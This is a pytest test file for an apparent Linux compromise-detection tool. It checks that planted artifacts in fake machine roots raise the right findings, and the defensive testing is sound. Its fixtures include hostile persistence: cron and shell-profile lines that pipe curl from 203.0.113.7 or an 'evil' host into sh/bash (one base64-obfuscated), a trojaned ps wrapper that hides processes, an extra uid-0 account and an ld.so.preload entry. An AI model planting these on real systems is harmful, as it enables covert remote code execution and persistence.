"""The file-based compromise checks against fake machine roots (``diagnose --root``):
a healthy tree raises nothing; each planted artifact raises its finding with the
evidence (file, line number, line) and the severity."""

import hashlib
import time

import pytest

from hostmedic.model import Severity, Status
from tests.security_tree import DAY, FIXTURES, KEY, elf, failed, healthy_tree


def test_healthy_tree_raises_nothing(tmp_path):
    findings = healthy_tree(tmp_path).findings()
    assert failed(findings) == []
    skipped = {f.rule_id: f.skip_reason for f in findings if f.status is Status.SKIPPED}
    assert set(skipped.values()) == {"reason.not_live"}  # only the live checks
    assert set(skipped) == {
        "security.admin_console",
        "security.hidden_process",
        "security.mysql_weak_root",
        "security.redis_no_password",
        "security.suspicious_process",
        "security.unpackaged_listener",
    }


def _one(tree, rule_id):
    found = failed(tree.findings(), rule_id)
    assert len(found) == 1, found
    return found[0]


def _evidence(finding):
    return [(e.source, e.excerpt) for e in finding.evidence]


def test_second_uid0_account(tmp_path):
    t = healthy_tree(tmp_path)
    t.append("/etc/passwd", "toor:x:0:0::/root:/bin/bash")
    f = _one(t, "security.uid0_account")
    assert f.severity is Severity.CRITICAL and f.params["user"] == "toor"
    assert _evidence(f) == [("/etc/passwd:7", "toor:x:0:0::/root:/bin/bash")]


def test_empty_password(tmp_path):
    t = healthy_tree(tmp_path)
    t.append("/etc/passwd", "bob:x:1001:1001::/home/bob:/bin/bash")
    t.append("/etc/shadow", "bob::19000:0:99999:7:::")
    f = _one(t, "security.empty_password")
    assert f.severity is Severity.CRITICAL and f.params["user"] == "bob"
    # the hash never reaches the report; an empty field is shown as it is
    assert "<hash>" not in f.evidence[0].excerpt


def test_new_login_account_but_not_a_new_package_account(tmp_path):
    t = healthy_tree(tmp_path)
    today = int(time.time() // DAY)
    t.append("/etc/passwd", "hacker:x:1001:1001::/home/hacker:/bin/sh")
    t.append("/etc/shadow", f"hacker:$6$s$h:{today}:0:99999:7:::")
    t.append("/etc/passwd", "redis:x:107:107::/var/lib/redis:/usr/sbin/nologin")
    t.append("/etc/shadow", f"redis:!:{today}::::::")
    f = _one(t, "security.new_account")
    assert f.severity is Severity.WARNING and f.params["user"] == "hacker"
    assert f.evidence[0].source == "/etc/passwd:7"
    assert f.evidence[1].excerpt.startswith(f"/etc/shadow last change: day {today}")


def test_system_account_that_can_log_in(tmp_path):
    t = healthy_tree(tmp_path)
    t.append("/etc/passwd", "games:x:5:60:games:/usr/games:/bin/bash")
    t.append("/etc/shadow", "games:$6$s$h:19000:0:99999:7:::")
    t.file("/var/lib/postgresql/.ssh/authorized_keys", KEY + "\n")  # postgres has bash
    found = failed(t.findings(), "security.system_account_shell")
    assert {f.params["user"] for f in found} == {"games", "postgres"}
    assert all(f.severity is Severity.WARNING for f in found)


def test_cron_download_and_run_and_unpackaged_user_job(tmp_path):
    t = healthy_tree(tmp_path)
    t.file(
        "/etc/cron.d/sysupdate",
        "MAILTO=\n*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh\n",
    )
    t.file("/var/spool/cron/crontabs/alice", "# DO NOT EDIT\n@reboot /home/alice/.cache/upd\n")
    found = {f.params["path"]: f for f in failed(t.findings(), "security.startup_item")}
    bad = found["/etc/cron.d/sysupdate"]
    assert bad.severity is Severity.CRITICAL and bad.title_key.endswith(".suspicious.title")
    assert _evidence(bad) == [
        ("/etc/cron.d/sysupdate:2", "*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh")
    ]
    assert [k for k, _ in bad.params["clues"]] == ["clue.download_exec"]
    mine = found["/var/spool/cron/crontabs/alice"]
    assert mine.severity is Severity.WARNING and mine.params["user"] == "alice"
    assert mine.params["program"] == "/home/alice/.cache/upd" and mine.params["line_no"] == 2


def test_ld_so_preload(tmp_path):
    t = healthy_tree(tmp_path)
    t.file("/etc/ld.so.preload", "# hide\n/usr/lib/x86_64-linux-gnu/libsystemd-shared.so.3\n")
    f = _one(t, "security.ld_preload")
    assert f.severity is Severity.CRITICAL
    assert f.params["library"] == "/usr/lib/x86_64-linux-gnu/libsystemd-shared.so.3"
    assert _evidence(f) == [
        ("/etc/ld.so.preload:2", "/usr/lib/x86_64-linux-gnu/libsystemd-shared.so.3")
    ]


def test_empty_ld_so_preload_is_fine(tmp_path):
    t = healthy_tree(tmp_path)
    t.file("/etc/ld.so.preload", "\n# nothing\n")
    assert failed(t.findings()) == []


def test_trojaned_ps_with_dpkgd_originals(tmp_path):
    t = healthy_tree(tmp_path)
    t.file("/usr/bin/dpkgd/ps", elf("ps"))
    t.file("/usr/bin/dpkgd/netstat", elf("netstat"))
    t.file(
        "/usr/bin/ps",
        '#!/bin/bash\n/usr/bin/dpkgd/ps "$@" | grep -v -E "bsd-port|\\.sshd"\n',
        mtime=None,
    )
    findings = t.findings()
    planted = failed(findings, "security.trojan_files")
    assert [(f.params["path"], f.severity, f.title_key) for f in planted] == [
        ("/usr/bin/dpkgd", Severity.CRITICAL, "finding.security.trojan_files.tools_dir.title")
    ]
    assert planted[0].params["entries"] == "netstat, ps"
    (modified,) = failed(findings, "security.modified_binary")
    assert modified.params == {"path": "/usr/bin/ps", "package": "procps"}
    assert modified.title_key.endswith(".script.title") and modified.severity is Severity.CRITICAL
    assert hashlib.md5(elf("ps")).hexdigest() in modified.evidence[0].excerpt


def test_modified_binary_against_md5sums(tmp_path):
    t = healthy_tree(tmp_path)
    t.file("/usr/bin/netstat", elf("netstat") + b"\x90backdoor")
    f = _one(t, "security.modified_binary")
    assert f.params["path"] == "/usr/bin/netstat" and f.severity is Severity.CRITICAL
    excerpt = f.evidence[0].excerpt
    assert hashlib.md5(elf("netstat") + b"\x90backdoor").hexdigest() in excerpt
    assert hashlib.md5(elf("netstat")).hexdigest() in excerpt and "net-tools" in excerpt


def test_seed_trojan_files(tmp_path):
    t = healthy_tree(tmp_path)
    t.file("/usr/bin/.sshd", elf("x"))
    t.file("/usr/bin/bsd-port/getty", elf("y"))
    found = failed(t.findings(), "security.trojan_files")
    assert {f.params["path"] for f in found} == {"/usr/bin/.sshd", "/usr/bin/bsd-port"}


def test_enabled_units_from_tmp_and_unpackaged_user_unit(tmp_path):
    t = healthy_tree(tmp_path)
    t.file(
        "/etc/systemd/system/dbus-broker.service",
        "[Service]\nType=simple\nExecStart=/tmp/.ICE-unix/dbus -q\n",
    )
    t.link(
        "/etc/systemd/system/multi-user.target.wants/dbus-broker.service", "../dbus-broker.service"
    )
    t.file(
        "/home/alice/.config/systemd/user/sync.service",
        "[Service]\nExecStart=/home/alice/bin/sync\n",
    )
    t.link("/home/alice/.config/systemd/user/default.target.wants/sync.service", "../sync.service")
    found = {f.params["path"]: f for f in failed(t.findings(), "security.startup_item")}
    tmp = found["/etc/systemd/system/dbus-broker.service"]
    assert tmp.severity is Severity.CRITICAL and tmp.params["line_no"] == 3
    assert [k for k, _ in tmp.params["clues"]] == ["clue.exe_in_temp"]
    user = found["/home/alice/.config/systemd/user/sync.service"]
    assert user.severity is Severity.WARNING and user.params["user"] == "alice"


def test_rc_local_and_unpackaged_init_script(tmp_path):
    t = healthy_tree(tmp_path)
    t.file(
        "/etc/rc.local", "#!/bin/sh -e\nnohup /usr/bin/bsd-port/getty >/dev/null 2>&1 &\nexit 0\n"
    )
    t.file("/etc/init.d/DbSecuritySpt", "#!/bin/bash\n/usr/local/bin/DbSecuritySpt\n")
    t.link("/etc/rc3.d/S97DbSecuritySpt", "../init.d/DbSecuritySpt")
    found = failed(t.findings(), "security.startup_item")
    by_path = {f.params["path"]: f for f in found}
    rc = by_path["/etc/rc.local"]
    assert rc.severity is Severity.CRITICAL and rc.params["line_no"] == 2
    assert {k for k, _ in rc.params["clues"]} == {"clue.trojan_path"}
    init = by_path["/etc/init.d/DbSecuritySpt"]
    assert init.severity is Severity.WARNING and init.params["kind"] == "init_d"


def test_profile_hook(tmp_path):
    t = healthy_tree(tmp_path)
    t.file(
        "/etc/profile.d/zz-update.sh",
        "echo Y3VybCBodHRwOi8vZXZpbC94fHNo | base64 -d | bash >/dev/null 2>&1\n",
    )
    t.append("/root/.bashrc", "(curl -s http://203.0.113.7/k | bash) &")
    found = {f.params["path"]: f for f in failed(t.findings(), "security.shell_hook")}
    assert set(found) == {"/etc/profile.d/zz-update.sh", "/root/.bashrc"}
    assert found["/root/.bashrc"].params["line_no"] == 3
    assert found["/root/.bashrc"].params["user"] == "root"


def test_authorized_keys_written_by_redis_and_recently_added(tmp_path):
    t = healthy_tree(tmp_path)
    t.file("/root/.ssh/authorized_keys", (FIXTURES / "redis_authorized_keys.bin").read_bytes())
    t.file(
        "/home/alice/.ssh/authorized_keys",
        KEY + "\n" + KEY.replace("alice@laptop", "x@y") + "\n",
        mtime=None,
    )
    found = {f.params["user"]: f for f in failed(t.findings(), "security.authorized_keys")}
    redis = found["root"]
    assert redis.severity is Severity.CRITICAL and redis.title_key.endswith(".redis.title")
    assert any(
        e.source == "/root/.ssh/authorized_keys:1" and e.excerpt.startswith("REDIS0010")
        for e in redis.evidence
    )
    recent = found["alice"]
    assert recent.severity is Severity.WARNING and recent.params["keys"] == 2


def test_logins_from_wtmp_btmp_records(tmp_path):
    t = healthy_tree(tmp_path)
    t.file("/var/log/wtmp", (FIXTURES / "wtmp.bin").read_bytes())
    t.file("/var/log/btmp", (FIXTURES / "btmp.bin").read_bytes())
    t.file("/var/log/auth.log", "")  # emptied by the intruder: the binary records remain
    findings = t.findings()
    (broke_in,) = failed(findings, "security.brute_force")
    assert broke_in.severity is Severity.CRITICAL and broke_in.title_key.endswith(".broke_in.title")
    assert broke_in.params == {"ip": "1.2.3.4", "failures": 12, "user": "root", "method": "session"}
    assert [e.source for e in broke_in.evidence] == ["/var/log/btmp#1-12", "/var/log/wtmp#4"]
    abroad = {f.params["ip"]: f for f in failed(findings, "security.login_abroad")}
    assert set(abroad) == {"1.2.3.4", "8.8.8.8"}  # AU and US; 114.215.114.6 is home (CN)
    assert (
        abroad["8.8.8.8"].params["country"] == "US"
        and abroad["8.8.8.8"].severity is Severity.WARNING
    )


def test_brute_force_from_auth_log_and_home_country_unknown(tmp_path):
    t = healthy_tree(tmp_path)
    t.file(
        "/var/log/auth.log",
        (FIXTURES / "auth.log").read_bytes(),
        mtime=time.mktime((2026, 11, 23, 0, 0, 0, 0, 0, -1)),
    )
    (f,) = failed(t.findings(), "security.brute_force")
    assert f.params["ip"] == "203.0.113.50" and f.params["failures"] == 13
    assert f.evidence[0].source == "/var/log/auth.log lines 3-11"
    assert f.evidence[-1].source == "/var/log/auth.log:14"
    unknown = t.findings(home_country=None)
    skipped = [x for x in unknown if x.rule_id == "security.login_abroad"]
    assert skipped[0].skip_reason == "reason.home_country_unknown"


def test_sshd_root_password_empty_passwords_and_exposure(tmp_path):
    t = healthy_tree(tmp_path)
    t.file(
        "/etc/ssh/sshd_config.d/50-keys.conf", "PermitRootLogin yes\nPasswordAuthentication yes\n"
    )
    t.append("/etc/ssh/sshd_config", "Match Address 198.51.100.0/24\n  PermitEmptyPasswords yes")
    t.file(
        "/etc/ssh/sshd_config",
        (tmp_path / "etc/ssh/sshd_config").read_text().replace("Port 2222\n", ""),
    )
    findings = t.findings()
    (root,) = failed(findings, "security.ssh_root_login")
    assert root.severity is Severity.WARNING
    assert ("/etc/ssh/sshd_config.d/50-keys.conf:1", "PermitRootLogin yes") in _evidence(root)
    (empty,) = failed(findings, "security.ssh_empty_passwords")
    assert (
        empty.severity is Severity.CRITICAL and empty.params["match"] == "Address 198.51.100.0/24"
    )
    (exposure,) = failed(findings, "security.ssh_exposure")
    assert exposure.severity is Severity.INFO
    assert ("sshd default", "port 22 (not set in sshd_config)") in _evidence(exposure)


def test_hosts_deny_restriction_silences_the_exposure_advice(tmp_path):
    t = healthy_tree(tmp_path)
    t.file("/etc/ssh/sshd_config.d/50-keys.conf", "PasswordAuthentication yes\n")
    t.file("/etc/ssh/sshd_config", "Port 22\n")
    assert len(failed(t.findings(), "security.ssh_exposure")) == 1
    t.file("/etc/hosts.deny", "sshd: ALL\n")
    t.file("/etc/hosts.allow", "sshd: 198.51.100.0/255.255.255.0\n")
    assert failed(t.findings(), "security.ssh_exposure") == []


def test_no_package_database_skips_the_checksum_check(tmp_path):
    t = healthy_tree(tmp_path)
    import shutil

    shutil.rmtree(tmp_path / "var/lib/dpkg")
    findings = t.findings()
    (check,) = [f for f in findings if f.rule_id == "security.modified_binary"]
    assert check.status is Status.SKIPPED and check.skip_reason == "reason.no_package_checksums"
    assert failed(findings) == []  # and nothing claims "no package owns it"


@pytest.mark.parametrize(
    "garbage", [b"\x00\xff" * 5000, b"root:x:0", "日本語:x:1:1::/:/bin/sh\n".encode()]
)
def test_hostile_account_files_do_not_crash(tmp_path, garbage):
    t = healthy_tree(tmp_path)
    t.file("/etc/passwd", garbage)
    t.file("/etc/shadow", garbage)
    t.file("/var/log/wtmp", garbage)
    t.file("/etc/crontab", garbage)
    t.file("/etc/ssh/sshd_config", garbage)
    t.findings()  # no exception, no internal error (asserted inside)


def test_missing_passwd_is_a_skip_with_the_path(tmp_path):
    t = healthy_tree(tmp_path)
    (tmp_path / "etc/passwd").unlink()
    findings = t.findings()
    uid0 = next(f for f in findings if f.rule_id == "security.uid0_account")
    assert uid0.status is Status.SKIPPED and uid0.skip_reason == "reason.unreadable"
    assert uid0.params["path"] == "/etc/passwd"
